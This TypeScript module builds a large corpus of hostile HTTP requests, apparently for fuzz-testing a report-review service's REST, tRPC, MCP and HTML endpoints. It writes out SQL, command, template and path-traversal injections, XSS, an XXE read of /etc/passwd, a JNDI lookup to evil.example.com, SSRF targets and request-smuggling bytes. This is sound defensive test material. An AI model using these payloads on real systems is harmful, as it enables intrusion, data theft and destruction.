import fc from "fast-check";
import { hostileJson, notAnObject, RawJson } from "./hostile.ts";
import { hostileMarkdown } from "./hostile-markdown.ts";

/** A request as it is sent; the target is sent unchanged, whatever it contains. */
export interface HostileRequest {
	method: string;
	target: string;
	headers?: Record<string, string>;
	body?: string | Buffer;
}

/** A text in all attacks, to look for in an answer. */
export const MARK = "pwned7341";

const long = "A".repeat(10_000);

/**
 * The shapes of the public injection and fuzz corpora: one for each thing they
 * try, not each of its thousand spellings.
 */
const injections: Record<string, string[]> = {
	sql: [
		"' OR '1'='1",
		"'; DROP TABLE mcp_server_reports; --",
		"1; UPDATE mcp_server_reports SET status='approved'",
		"' UNION SELECT null, version(), current_user --",
		"1' AND pg_sleep(20) --",
		"'||(SELECT pg_sleep(20))||'",
		"\\'; TRUNCATE report_decisions; --",
		"$$; DELETE FROM report_decisions; $$",
		"admin'/*",
		"%' ESCAPE '\\",
		"_%_%",
		"0x27204f522031",
	],
	noSql: ['{"$gt":""}', '{"$where":"sleep(9999)"}', "[$ne]=1", "true, $or: []"],
	template: [
		"{{7*7}}",
		"$" + "{7*7}",
		"<%= 7*7 %>",
		"#{7*7}",
		"{{constructor.constructor('return process')()}}",
		"$" + "{jndi:ldap://evil.example.com/a}",
		"@(1+1)",
		"*{T(java.lang.Runtime).getRuntime()}",
	],
	ldapAndXpath: [
		"*)(uid=*))(|(uid=*",
		"admin)(&)",
		"' or count(/*)=1 or 'a'='b",
	],
	commands: [
		"; cat /etc/passwd",
		"| id",
		"`id`",
		"$(id)",
		"&& sleep 20",
		"\n/bin/ls -al",
		"() { :;}; echo x",
	],
	paths: [
		"../../../../etc/passwd",
		"..\\..\\windows\\win.ini",
		"....//....//etc/passwd",
		"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"..%252f..%252fetc%252fpasswd",
		"%c0%ae%c0%ae%c0%af",
		"/etc/passwd%00.md",
		"file:///etc/passwd",
		"//evil.example.com/x",
		"php://filter/resource=x",
		"C:\\boot.ini",
		"CON",
	],
	xss: [
		`<script>alert("${MARK}")</script>`,
		`"><img src=x onerror=alert("${MARK}")>`,
		"javascript:alert(1)",
		`<svg/onload=alert("${MARK}")>`,
		"'-alert(1)-'",
		"</title><script>alert(1)</script>",
		"<!--<script>",
		"data:text/html;base64,PHNjcmlwdD4=",
	],
	xml: [
		'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
		"<![CDATA[x]]>",
	],
	lines: [
		`x\r\nX-Injected: ${MARK}`,
		`%0d%0aX-Injected:%20${MARK}`,
		"x\r\n\r\n<html>",
		"\u2028\u2029",
		"嘊嘍x",
	],
	prototype: [
		"__proto__",
		"constructor",
		"__proto__[admin]=1",
		"constructor.prototype.admin",
		"toString",
		"hasOwnProperty",
		"then",
	],
	unicode: [
		"\u0000",
		"a\u0000b",
		"\u202Egpj.exe",
		"\uFEFF",
		"\u200B",
		"ﬀ",
		"İ",
		"ß",
		"Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A",
		"\u{E0041}\u{E0042}",
		"👩‍👩‍👧‍👦".repeat(200),
		"\uFFFF",
		"＜script＞",
		"ｓｅｌｅｃｔ",
	],
	formats: ["%s%s%s%s%n", "%x".repeat(50), "%d %p", "{0}", "%%%", "%"],
	numbers: [
		...["-1", "0", "1e999", "NaN", "Infinity", "-0", "9007199254740993"],
		...["0x10", "1_000", "٣", "1.5", "2147483648", "99999999999999999999"],
	],
	times: ["0000-00-00", "9999-12-31T23:59:60Z", "-271821-04-20"],
	identifiers: [
		"00000000-0000-0000-0000-000000000000",
		"ffffffff-ffff-ffff-ffff-ffffffffffff",
		"{00000000-0000-0000-0000-000000000000}",
		"urn:uuid:00000000-0000-0000-0000-000000000000",
		"00000000-0000-0000-0000-00000000000g",
	],
	urls: [
		"http://169.254.169.254/latest/meta-data/",
		"http://localhost:5432/",
		"gopher://127.0.0.1:6379/_x",
		"https://user:pass@evil.example.com/a/b",
		"https://[::1]/a/b",
		"https://evil.example.com:99999/a/b",
		"git@github.com:../../x",
		"https://github.com/a/b?x=%00",
		"https://xn--/a/b",
	],
	long: [long, "(".repeat(5_000), "a,".repeat(4_000), "\u0301".repeat(5_000)],
	empty: ["", " ", "\t", "null", "undefined", "[]", "{}", "[object Object]"],
};

const json = { "content-type": "application/json" };
const mcp = { ...json, accept: "application/json, text/event-stream" };
const html = { accept: "text/html" };
const form = {
	...html,
	"content-type": "application/x-www-form-urlencoded",
	"sec-fetch-site": "same-origin",
};

/** Encodes a value as a browser would in an address; or leaves it raw, where that can be sent. */
function inUrl(value: string, isRaw: boolean): string {
	return isRaw && /^[!-"$-~]+$/.test(value)
		? value
		: encodeURIComponent(value.toWellFormed());
}

/** Returns a header's value, without characters that no client library would send. */
function inHeader(value: string): string {
	return value.replaceAll(/[^ -~]/g, "?").slice(0, 3_000);
}

const queries = [
	...["status", "repository_url", "risk_level", "has_errors", "trifecta"],
	...["search", "sort", "limit", "after", "days", "against", "view", "input"],
	...["__proto__", "constructor", "a[b][c]"],
];

const procedures = [
	...["reports.get", "reports.list", "reports.submit", "reports.setStatus"],
	...["reports.check", "reports.counts", "servers.list", "analytics.overview"],
	...["health.live", "checklist.get", "__proto__", "reports.__proto__.x", "."],
];

const tools = [
	...["check_report", "submit_report", "list_servers", "get_report"],
	...["review_report", "__proto__"],
];

const call = (method: unknown, params?: unknown, id: unknown = 1) =>
	JSON.stringify({ jsonrpc: "2.0", id, method, params });

/**
 * Returns every shape through every façade.
 *
 * @param decided the id of an approved report: deciding again must fail
 */
export function hostileRequests(decided: string): HostileRequest[] {
	const values = Object.values(injections).flat();
	const pick = <T>(of: T[], index: number) => of[index % of.length] as T;
	return [
		...values.flatMap((value, index) =>
			throughEveryDoor(value, index % 2 === 1, decided, {
				query: pick(queries, index),
				otherQuery: pick(queries, index + 5),
				procedure: pick(procedures, index),
				tool: pick(tools, index),
			}),
		),
		...Object.values(hostileMarkdown).flatMap(asReport),
		...bodies(decided),
		...wrongRequests(decided),
	];
}

function throughEveryDoor(
	value: string,
	isRaw: boolean,
	decided: string,
	at: { query: string; otherQuery: string; procedure: string; tool: string },
): HostileRequest[] {
	const url = inUrl(value, isRaw);
	const get = (target: string, headers = {}) => ({
		method: "GET",
		target,
		headers,
	});
	const send = (
		method: string,
		target: string,
		body: unknown,
		headers = json,
	) => ({
		method,
		target,
		headers,
		body: typeof body === "string" ? body : JSON.stringify(body),
	});
	const report = {
		server_name: "mcp-x",
		repository_url: `https://github.com/example/${index(value)}`,
		developer_email: "alex@example.com",
		report_data: "# Report",
	};
	const decision = { status: "approved", reviewed_by: "kim@example.com" };
	const reports = "/api/v1/reports";
	const typed = new URLSearchParams({
		csrf: value,
		status: "approved",
		reviewed_by: value,
		review_notes: value,
	});
	return [
		get(`${reports}?${at.query}=${url}&${at.otherQuery}=${url}`),
		get(`${reports}/${url}`),
		get(`${reports}/${url}/decisions`),
		get(`/api/v1/servers?${url}=${url}`),
		get(`/${url}`, html),
		get(`/?${at.query}=${url}`, html),
		get(`/reports/${url}`, html),
		get(`/reports/${decided}/compare?${at.query}=${url}&with=${url}`, html),
		get(`/servers?${at.query}=${url}&search=${url}`, html),
		get(`/assets/${url}`),
		get(
			`/trpc/${at.procedure}?input=${inUrl(JSON.stringify({ id: value, search: value }), false)}`,
		),
		get(`/trpc/${url}?batch=1&input=${url}`),
		send("POST", reports, { ...report, server_name: value }),
		send("POST", reports, { ...report, repository_url: value }),
		send("POST", reports, {
			...report,
			developer_email: value,
			[value]: value,
		}),
		send("POST", reports, { ...report, report_json: { [value]: [value] } }),
		send("POST", `${reports}/check`, {
			report_data: value,
			report_json: value,
		}),
		send("PATCH", `${reports}/${decided}/status`, {
			...decision,
			review_notes: value,
			reviewed_by: value,
		}),
		send("PATCH", `${reports}/${decided}/status`, {
			...decision,
			status: value,
		}),
		send("POST", `/trpc/${at.procedure}`, {
			id: value,
			status: value,
			report_data: value,
		}),
		send(
			"POST",
			"/mcp",
			call("tools/call", {
				name: at.tool,
				arguments: {
					report_id: value,
					status: value,
					report_markdown: value,
					server_name: value,
				},
			}),
			mcp,
		),
		send("POST", "/mcp", call(value, { uri: value, name: value }, value), mcp),
		send(
			"POST",
			"/mcp",
			call("resources/read", { uri: `golive://reports/${value}` }),
			mcp,
		),
		send("POST", `/reports/${decided}/decision`, typed.toString(), form),
		get(reports, {
			"if-none-match": inHeader(value),
			accept: inHeader(value),
			"user-agent": inHeader(value),
		}),
		get("/", {
			...html,
			cookie: `go_live_session=${inHeader(value)}; ${inHeader(value)}`,
			referer: inHeader(value),
		}),
		get("/api/v1/checklist", {
			origin: inHeader(value),
			"x-forwarded-host": inHeader(value),
			"x-request-id": inHeader(value),
		}),
	];
}

/** Returns a different number for each text, so that no repository is used twice. */
function index(value: string): number {
	let sum = 7;
	for (const character of value) {
		sum = (sum * 31 + (character.codePointAt(0) ?? 0)) % 1_000_000_007;
	}
	return sum;
}

function asReport(markdown: string): HostileRequest[] {
	const body = JSON.stringify({ report_data: markdown });
	const draft = { report_markdown: markdown };
	return [
		{ method: "POST", target: "/api/v1/reports/check", headers: json, body },
		{ method: "POST", target: "/trpc/reports.check", headers: json, body },
		{
			method: "POST",
			target: "/mcp",
			headers: mcp,
			body: call("tools/call", { name: "check_report", arguments: draft }),
		},
	];
}

/** Returns bodies that are not JSON, too much of it, or not what is expected; the same ones every time. */
function bodies(decided: string): HostileRequest[] {
	const sample = <T>(arbitrary: fc.Arbitrary<T>, numRuns: number) =>
		fc.sample(arbitrary, { numRuns, seed: 7341 });
	const values = sample(hostileJson, 60).map((value) =>
		value instanceof RawJson ? value.text : JSON.stringify(value),
	);
	const given: (string | Buffer)[] = [
		...sample(notAnObject, 30),
		...values.map((value) => `{"server_name":${value},"id":${value}}`),
		'{"status":"approved","status":"rejected","id":1,"id":2}',
		`[${"{},".repeat(50_000)}{}]`,
		`{${Array.from({ length: 20_000 }, (_, n) => `"k${n}":${n}`).join()}}`,
		`{"report_json":"${"[".repeat(400_000)}"}`,
		Buffer.from([0xff, 0xfe, 0x7b, 0x00]),
		Buffer.from('{"report_data":"\xc3\x28"}', "latin1"),
		"\u0000".repeat(1_000),
	];
	const targets = [
		["POST", "/api/v1/reports", json],
		["PATCH", `/api/v1/reports/${decided}/status`, json],
		["POST", "/trpc/reports.submit", json],
		["POST", "/trpc/reports.submit,reports.setStatus?batch=1", json],
		["POST", "/mcp", mcp],
		["POST", `/reports/${decided}/decide`, form],
	] as const;
	return given.flatMap((body) =>
		targets.map(([method, target, headers]) => ({
			method,
			target,
			headers,
			body,
		})),
	);
}

/** Returns wrong methods, types, encodings and envelopes. */
function wrongRequests(decided: string): HostileRequest[] {
	const places = [
		...["/", "/api/v1/reports", `/api/v1/reports/${decided}/status`, "/mcp"],
		...["/trpc/reports.submit", `/reports/${decided}/decision`, "/docs/"],
		...["/healthz", "/openapi.json", "/queue/news", "/overview/risks.svg"],
	];
	const methods = ["PUT", "DELETE", "TRACE", "PROPFIND", "PURGE", "OPTIONS"];
	const types = [
		...["text/plain", "application/xml", "multipart/form-data", "x", ""],
		...["application/json; charset=utf-7", "application/json/json", "*/*"],
		...["multipart/form-data; boundary=", "application/x-www-form-urlencoded"],
	];
	const envelopes = [
		...["[]", "{}", "1", '"x"', "null", "[[]]", "[1,2]", '{"jsonrpc":"1.0"}'],
		...['{"jsonrpc":"2.0"}', '{"jsonrpc":"2.0","id":{},"method":1}'],
		...['{"jsonrpc":"2.0","id":1,"method":"tools/call"}'],
		...['{"jsonrpc":"2.0","id":1,"method":"tools/call","params":[]}'],
		...[
			'{"jsonrpc":"2.0","id":1,"result":{}}',
			'{"jsonrpc":"2.0","method":"x"}',
		],
		call("initialize", { protocolVersion: {}, capabilities: 1 }),
		call("initialize", { protocolVersion: long }),
		call("prompts/get", { name: "go_live", arguments: { a: 1 } }),
		call("completion/complete", { ref: { type: "ref/resource" } }),
		call("logging/setLevel", { level: "x" }),
		call("tools/list", { cursor: long }),
		`[${Array(500).fill(call("ping")).join()}]`,
	];
	const versions = ["2025-06-18", "2026-07-28", "9999-99-99", "x", ""];
	return [
		...places.flatMap((target) => [
			...methods.map((method) => ({ method, target, headers: html })),
			...types.map((type) => ({
				method: "POST",
				target,
				headers: { "content-type": type },
				body: "a=1&b[c]=2",
			})),
			...["gzip", "deflate", "br", "x"].map((encoding) => ({
				method: "POST",
				target,
				headers: { ...json, "content-encoding": encoding },
				body: Buffer.from("\x1f\x8b\x08nonsense", "latin1"),
			})),
			{ method: "GET", target: `${target}?${"a=1&".repeat(1_500)}` },
			{ method: "GET", target: `${target}${"/x".repeat(3_000)}` },
			{ method: "GET", target, headers: { range: "bytes=0-1,5-9999999" } },
			{ method: "GET", target, headers: { "accept-encoding": long } },
			{ method: "POST", target, headers: json, body: "{".repeat(9 << 20) },
		]),
		...envelopes.flatMap((body) =>
			versions.map((version) => ({
				method: "POST",
				target: "/mcp",
				headers: { ...mcp, "mcp-protocol-version": version, "mcp-method": "x" },
				body,
			})),
		),
		...envelopes.map((body) => ({
			method: "POST",
			target: "/trpc/reports.list,reports.get,x?batch=1",
			headers: { ...json, "trpc-accept": "application/jsonl" },
			body,
		})),
	];
}

/** Bytes that no client library sends. */
export const hostileBytes: string[] = [
	...["\r\n\r\n", "\0\0\0\0\r\n\r\n", "GET\r\n\r\n", "GET / HTTP/9.9\r\n\r\n"],
	"GET /\r\n\r\n",
	"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
	"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
	"GET / HTTP/1.1\r\nHost: localhost\r\nX: a\0b\r\n\r\n",
	"GET / HTTP/1.1\r\nHost: localhost\r\n folded: x\r\n\r\n",
	"GET / HTTP/1.1\nHost: localhost\n\n",
	"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
	"GET / HTTP/1.1\r\nHost: [::1\r\n\r\n",
	"GET / HTTP/1.1\r\nHost: localhost:99999999\r\n\r\n",
	"GET / HTTP/1.1\r\nHost:\r\n\r\n",
	"GET * HTTP/1.1\r\nHost: localhost\r\n\r\n",
	"GET http://[::1/ HTTP/1.1\r\nHost: localhost\r\n\r\n",
	"GET \\\\evil HTTP/1.1\r\nHost: localhost\r\n\r\n",
	"GET /\xff\xfe HTTP/1.1\r\nHost: localhost\r\n\r\n",
	"GET /%ff%fe HTTP/1.1\r\nHost: localhost\r\n\r\n",
	"CONNECT evil.example.com:443 HTTP/1.1\r\nHost: localhost\r\n\r\n",
	"TRACE / HTTP/1.1\r\nHost: localhost\r\nMax-Forwards: 0\r\n\r\n",
	"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
	"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: x\r\n\r\n",
	"POST /api/v1/reports HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
	"POST /api/v1/reports HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
	"POST /api/v1/reports HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\nffffffffffffffff\r\n{}",
	"POST /api/v1/reports HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n-1\r\n{}\r\n",
	"POST /api/v1/reports HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n",
	"POST /api/v1/reports HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999999999999999\r\n\r\n",
	"POST /api/v1/reports HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nExpect: 200-maybe\r\nContent-Length: 2\r\n\r\n{}",
	"POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{",
	`GET / HTTP/1.1\r\nHost: localhost\r\n${"X: y\r\n".repeat(5_000)}\r\n`,
	`GET / HTTP/1.1\r\nHost: localhost\r\n${Array.from({ length: 1_500 }, (_, n) => `X${n}: y\r\n`).join("")}\r\n`,
	`GET /${"x".repeat(30_000)} HTTP/1.1\r\nHost: localhost\r\n\r\n`,
	`${"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(300)}`,
	`${"A".repeat(50_000)}`,
];
